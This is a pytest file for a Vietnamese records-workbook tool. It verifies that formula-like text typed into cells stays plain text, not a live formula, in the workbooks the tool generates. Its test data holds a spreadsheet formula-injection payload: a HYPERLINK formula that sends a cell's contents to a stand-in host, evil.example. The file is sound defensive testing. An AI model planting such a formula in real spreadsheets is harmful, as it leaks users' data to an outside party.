"""Spreadsheet formula injection: text a clerk (or whoever filled a cell) typed as
`=HYPERLINK("http://…","…")` is copied into the workbooks hoso writes from the input — the marked copy of
`hoso check --danh-dau` (also the web's «sổ có tô màu»), next year's workbook of `hoso init --tu` (also the
web's «sổ năm sau») — and must stay text there: openpyxl makes every string starting with "=" a formula
unless told otherwise, and Excel would run it when the clerk opens the file. The build's own .xlsx are
covered by tests/test_injection.py.

Also: the marked copy loads the whole workbook with openpyxl, so a small upload that inflates to a huge
sheet is refused before openpyxl starts (the problems are still listed)."""

from __future__ import annotations

import json

import openpyxl
import pytest
import workbook_factory as wf

from pipeline.cli import main
from pipeline.ingest import mark

LINK = '=HYPERLINK("http://evil.example/?d="&B2,"Bấm vào đây")'
SUM = "=SUM(1,41)"


def run_cli(args, capsys) -> tuple[int, str, str]:
    with pytest.raises(SystemExit) as exc:
        main([str(a) for a in args])
    out = capsys.readouterr()
    return exc.value.code, out.out, out.err


def _text(ws, ref: str, value: str) -> None:
    ws[ref].value = value
    ws[ref].data_type = "s"  # a text cell (as Excel stores text typed after a quote), not a formula


def _col(ws, key: str) -> str:
    return openpyxl.utils.get_column_letter([c.value for c in ws[1]].index(key) + 1)


def _hostile(tmp_path, *, invalid: bool):
    src = wf.write(tmp_path / "so.xlsx", wf.tables())
    wb = openpyxl.load_workbook(src)
    ns, dv, cq = wb["NhanSu"], wb["DonVi"], wb["CoQuan"]
    _text(ns, f"{_col(ns, 'ho_ten')}3", LINK)
    _text(ns, f"{_col(ns, 'chuc_vu')}4", SUM)
    _text(dv, f"{_col(dv, 'ten_don_vi')}2", "=1+1")
    ten = next(r for r in range(1, cq.max_row + 1) if cq.cell(row=r, column=1).value == "ten_co_quan")
    _text(cq, f"B{ten}", "=2+2")
    own = wb.create_sheet("CuaCoQuan")  # the clerk's own sheet, carried to next year
    _text(own, "A1", "=3+3")
    own["B1"] = "=6*7"  # a real formula of the clerk's own: it stays one
    if invalid:
        _text(ns, f"{_col(ns, 'ngay_sinh')}5", LINK)  # not a date: the problem's value is this text
    wb.save(src)
    return src


def _formulas(path) -> list[tuple[str, str, object]]:
    wb = openpyxl.load_workbook(path)
    return [(ws.title, c.coordinate, c.value) for ws in wb for row in ws.iter_rows() for c in row
            if c.data_type == "f"]


def test_the_marked_copy_lists_a_formula_like_value_as_text(tmp_path, capsys):
    src = _hostile(tmp_path, invalid=True)
    copy = tmp_path / "danh_dau.xlsx"
    code, _, err = run_cli(["check", src, "--danh-dau", copy], capsys)
    assert code == 3 and "Đã ghi bản đánh dấu" in err, err
    assert _formulas(copy) == [("CuaCoQuan", "B1", "=6*7")]  # only the clerk's own formula
    listing = openpyxl.load_workbook(copy)[mark.SHEET]
    values = [row[6] for row in listing.iter_rows(min_row=2, values_only=True)]
    assert LINK in values  # shown as typed, as text


def test_next_years_workbook_keeps_formula_like_text_as_text(tmp_path, capsys):
    src = _hostile(tmp_path, invalid=False)
    code, _, err = run_cli(["init", "--tu", src, tmp_path / "ra"], capsys)
    assert code in (0, None), err
    made = next((tmp_path / "ra").glob("*.xlsx"))
    assert _formulas(made) == [("CuaCoQuan", "B1", "=6*7")]
    wb = openpyxl.load_workbook(made)
    ns = wb["NhanSu"]  # a new workbook's columns are in the contract's order
    assert LINK in [c.value for c in ns[wf.letter("NhanSu", "ho_ten")]]
    assert SUM in [c.value for c in ns[wf.letter("NhanSu", "chuc_vu")]]
    assert wb["DonVi"][f"{wf.letter('DonVi', 'ten_don_vi')}2"].value == "=1+1"
    assert "=2+2" in [c.value for c in wb["CoQuan"]["B"]]
    assert wb["CuaCoQuan"]["A1"].value == "=3+3" and wb["CuaCoQuan"]["A1"].data_type == "s"


def test_a_workbook_too_big_for_openpyxl_gets_no_marked_copy_but_all_its_problems(tmp_path, capsys, monkeypatch):
    src = _hostile(tmp_path, invalid=True)
    code, out, _ = run_cli(["check", src, "--json"], capsys)
    listed = json.loads(out)
    monkeypatch.setattr(mark, "OPENPYXL_LIMIT", 1000)
    copy = tmp_path / "danh_dau.xlsx"
    code, out, err = run_cli(["check", src, "--danh-dau", copy], capsys)
    assert code == 3
    assert f"Không tạo bản đánh dấu «{copy.name}»" in err and "MB dữ liệu trong các sheet" in err, err
    assert not copy.exists()
    assert "Tổng cộng: 1 lỗi" in out + err and len(listed) >= 1
